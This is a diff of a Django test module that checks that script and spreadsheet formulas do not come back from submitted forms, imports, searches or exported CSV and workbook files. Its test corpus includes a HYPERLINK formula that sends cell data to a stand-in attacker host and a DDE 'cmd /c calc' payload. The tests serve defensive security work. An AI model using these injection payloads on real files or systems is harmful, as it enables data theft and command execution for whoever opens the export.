@@ -6,14 +6,19 @@ The browser's requests are answered by the test client, so the estate is built o
 import csv
 import io
 import json
+import re
 from collections.abc import Iterator
+from html import unescape
 from itertools import cycle, islice
 from typing import Any
-from urllib.parse import urlsplit
+from urllib.parse import quote, urlsplit
 
+import openpyxl
 import pytest
+from django import forms
 from django.apps import apps
 from django.contrib.postgres.fields import ArrayField
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import transaction
 from django.db.models import CharField, JSONField, TextField
 from django.http import HttpResponse
@@ -25,7 +30,7 @@ from core import audit
 from datagene import unseen
 from tests.accounts import world
 from tests.conftest import CHROMIUM, as_owner
-from tests.contracts.places import Place, build, routes
+from tests.contracts.places import Place, build, routes, undone
 
 pytestmark = [
     pytest.mark.django_db,
@@ -51,6 +56,7 @@ CORPUS = (
     "=hyperlink(\"//evil.example/\"&a1)", "+1+cmd|' /c calc'!a0", "-2+3", "@sum(1)", "\t=1", "＝1",
 )  # fmt: skip
 MARK = "ran=1"
+FORMULAS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 # Text with a meaning of its own: keys, digests, codes that a registry must know, times, conditions in their grammar.
 KEPT = {
     "kind", "target", "exclusive_key", "idem_key", "lease_owner", "url", "verb", "method", "digest", "key", "kid", "wrapped", "kek_id",
@@ -163,8 +169,20 @@ def place(estate: Place, db: None, settings: Any) -> Place:
     return estate.again()
 
 
-def pages(place: Place) -> Iterator[tuple[str, Any]]:
-    """(address, answer) of every page that somebody of the place may open, and of what searching for a part of it finds."""
+_PAGES: dict[str, Any] = {}
+
+
+def pages(place: Place) -> dict[str, Any]:
+    """{address: answer} of every page that somebody of the place may open, and of what searching for a part of it finds.
+
+    Asked for once: what tests do to the estate is undone.
+    """
+    if not _PAGES:
+        _PAGES.update(_pages(place))
+    return _PAGES
+
+
+def _pages(place: Place) -> Iterator[tuple[str, Any]]:
     clients = [world.browser(person) for person in (place.manager, *place.people)]
     found = [
         route.address(place.ids[place.label_of(route)] if route.key else None)
@@ -212,7 +230,7 @@ def watched(browser: Browser, answers: dict[str, Any]) -> tuple[BrowserContext, 
 
 
 def test_no_script_of_others_runs_on_any_page(browser: Browser, place: Place) -> None:
-    answers = dict(pages(place))
+    answers = pages(place)
     context, faults = watched(browser, answers)
     page, showing = context.new_page(), 0
     for address in answers:
@@ -228,6 +246,110 @@ def test_no_script_of_others_runs_on_any_page(browser: Browser, place: Place) ->
     assert showing > len(answers) * 0.8, "the corpus is on most pages, as text"
 
 
+# What people send ------------------------------------------------------------------------------------------------------
+
+
+def sent(place: Place) -> Iterator[tuple[str, str]]:
+    """(address, HTML) of what answers what people send: forms filled in, deeds with the notice that follows, inspectors, panes,
+    lists searched, the report of an import, a design that is checked, addresses that lead nowhere."""
+    clients = [world.browser(person) for person in (place.manager, *place.people)]
+    answered = pages(place)
+    for number, route in enumerate(routes()):
+        if route.is_api or "?" in route.text or route.text in ("/sign-out/", "/account/password/"):
+            continue
+        address = route.address(place.ids[place.label_of(route)] if route.key else None)
+        shown = answered.get(address)
+        client = shown.client if shown else clients[0]
+        if "post" in route.methods:
+            yield from posted([client] if shown else clients, address, shown, number)
+        if shown and not route.key:
+            yield from asked(client, address, shown, number)
+    yield from reported(clients[0])
+    for text in CORPUS:
+        yield "nowhere", Client().get(f"/assets/{quote(text)}/").content.decode()
+
+
+def posted(clients: list[Client], address: str, shown: Any, number: int) -> Iterator[tuple[str, str]]:
+    """Once with everything filled in, the choices rightly, and once with the corpus everywhere; a deed leads to its notice."""
+    form = shown.context.get("form") if shown is not None and shown.context else None
+    fields = getattr(form, "fields", {})
+    for body in (
+        {name: filled(field, number) for name, field in fields.items()},
+        {name: hostile(number + place, 900) for place, name in enumerate((*fields, "selected", "query", "q"))},
+    ):
+        for client in clients:
+            with undone(client):
+                answer = client.post(address, body)
+                if answer.status_code == 302:
+                    answer = client.get(answer.headers["Location"])
+            if answer.status_code not in (403, 404, 405):
+                yield address, answer.content.decode()
+                break
+
+
+def filled(field: Any, number: int) -> Any:
+    if isinstance(field, forms.ModelChoiceField):
+        return next((str(row.pk) for row in field.queryset[:1]), "")
+    if isinstance(field, forms.ChoiceField):
+        return next((str(key) for key, _label in field.choices if key), "")
+    if isinstance(field, forms.DateField):
+        return "2027-01-31"
+    return (
+        "1"
+        if isinstance(field, forms.IntegerField | forms.DecimalField)
+        else hostile(number, field.__dict__.get("max_length") or 200)
+    )
+
+
+def asked(client: Client, address: str, shown: Any, number: int) -> Iterator[tuple[str, str]]:
+    """A list that is searched and narrowed in vain, and what its rows open beside it."""
+    query = {
+        name: CORPUS[(number + place) % len(CORPUS)]
+        for place, name in enumerate(("q", "sort", "page", "by", "show", "state"))
+    }
+    yield address, client.get(address, query).content.decode()
+    for link in re.findall(r'href="([^"]*[?&;](?:inspect|focus)=[^"]*)"', shown.content.decode())[:1]:
+        where = address + unescape(link) if link.startswith("?") else unescape(link)
+        yield where, client.get(where).content.decode()
+
+
+def reported(client: Client) -> Iterator[tuple[str, str]]:
+    """The report of an import, its second look, and a design, each made of the corpus."""
+    page = client.get("/standards/elements/import/")
+    agency = page.context["form"].fields["agency"].queryset[0].pk
+    lines = io.StringIO()
+    writer = csv.writer(lines)
+    writer.writerow(["编号", "名称", "定义", "数据格式", "级别", "值域", "代码集", "同义词", "来源", CORPUS[0]])
+    for number, text in enumerate(CORPUS):
+        writer.writerow([f"H{number}", text, text, text, text, text, text, text, text, text])
+        writer.writerow([text, text, text, "an..18", "L2", text, "", text, text, text])
+    file = SimpleUploadedFile(f"{CORPUS[0].replace('/', '')}.csv", lines.getvalue().encode())
+    answer = client.post(page.request["PATH_INFO"], {"agency": agency, "domain": "general", "file": file})
+    assert answer.status_code == 200
+    yield "import", answer.content.decode()
+    columns = ", ".join('"' + text.replace('"', '""') + '" varchar(9)' for text in CORPUS)
+    for product in ("postgresql", "dameng"):
+        ddl = f'CREATE TABLE "{CORPUS[3].replace(chr(34), chr(34) * 2)}" ({columns});' + "".join(
+            f"CREATE TABLE t{number} (a {text}); COMMENT ON TABLE t{number} IS '{text.replace(chr(39), chr(39) * 2)}';"
+            for number, text in enumerate(CORPUS)
+        )
+        yield "design", client.post("/genes/design/", {"product": product, "kind": "ddl", "text": ddl}).content.decode()
+    listed = "字段名\t类型\t注释\t表名\n" + "".join(f"{text}\t{text}\t{text}\t{text}\n" for text in CORPUS)
+    yield "design", client.post("/genes/design/", {"product": "mysql", "kind": "list", "text": listed}).content.decode()
+
+
+def test_no_script_of_others_comes_back_from_what_is_sent(browser: Browser, place: Place) -> None:
+    page, answered, showing = browser.new_page(), 0, 0
+    for address, html in sent(place):
+        seen = page.evaluate(PARSED, html)
+        assert seen["found"] == [], address
+        assert "36863" not in seen["text"], f"{address}: 191 × 193 was worked out"
+        answered, showing = answered + 1, showing + (MARK in seen["text"])
+    page.close()
+    assert answered > 200
+    assert showing > 80, "much of it is told again, as text"
+
+
 def test_what_programs_read_is_well_formed(place: Place) -> None:
     """JSON and CSV with those names in them, quotes, brackets and line ends included, give them back as they are."""
     client, read = world.browser(place.manager), 0
@@ -238,11 +360,35 @@ def test_what_programs_read_is_well_formed(place: Place) -> None:
     assert read > 20
     listed = client.get("/api/v1/tables/?limit=200").json()["results"]
     assert {row["name"] for row in listed} == set(Table.objects.values_list("name", flat=True))
-    answer = client.get("/assets/?export=csv")
-    header, *rows = csv.reader(io.StringIO(answer.getvalue().decode("utf-8-sig")))
-    assert {len(row) for row in rows} == {len(header)}
-    assert len(rows) == len(listed)
-    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))]
+    assert len(taken(client.get("/assets/?export=csv"))) == len(listed) + 1
+
+
+def test_no_file_that_is_taken_away_holds_a_formula(place: Place) -> None:
+    """Every list of every app, as CSV and as a workbook, with names and remarks that begin as formulas do."""
+    clients, armed, lists = [world.browser(person) for person in (place.manager, *place.people)], 0, 0
+    for address in [route.address() for route in routes() if "?export=csv" in route.text and not route.key]:
+        answers = ((client, client.get(address)) for client in clients)
+        client, answer = next((client, answer) for client, answer in answers if answer.status_code == 200)
+        if not answer["Content-Type"].startswith("text/csv"):
+            continue  # a list that is not taken away
+        rows = taken(answer)
+        assert {len(row) for row in rows} == {len(rows[0])}, address
+        book = openpyxl.load_workbook(io.BytesIO(client.get(address.replace("=csv", "=xlsx")).getvalue())).active
+        cells = [cell for row in book.iter_rows() for cell in row]
+        assert book.max_column == len(rows[0]), address
+        assert book.max_row - len(rows) in (0, 1), address  # taking the audit trail away is on record there
+        assert [cell.value for cell in cells if cell.data_type == "f"] == [], address
+        texts = [text for row in rows for text in row]
+        texts += [str(cell.value) for cell in cells if cell.data_type in ("s", "inlineStr")]
+        assert [text for text in texts if text.startswith(FORMULAS) and not text[1:].replace(".", "").isdigit()] == []
+        armed += sum(text.startswith("'") and text[1:].startswith(FORMULAS) for text in texts)
+        lists += 1
+    assert (lists > 20, armed > 100) == (True, True), (lists, armed)
+
+
+def taken(answer: Any) -> list[list[str]]:
+    """The rows of a CSV file, its head first."""
+    return list(csv.reader(io.StringIO(answer.getvalue().decode("utf-8-sig"))))
 
 
 def test_hidden_characters_are_shown_and_forms_keep_them() -> None:
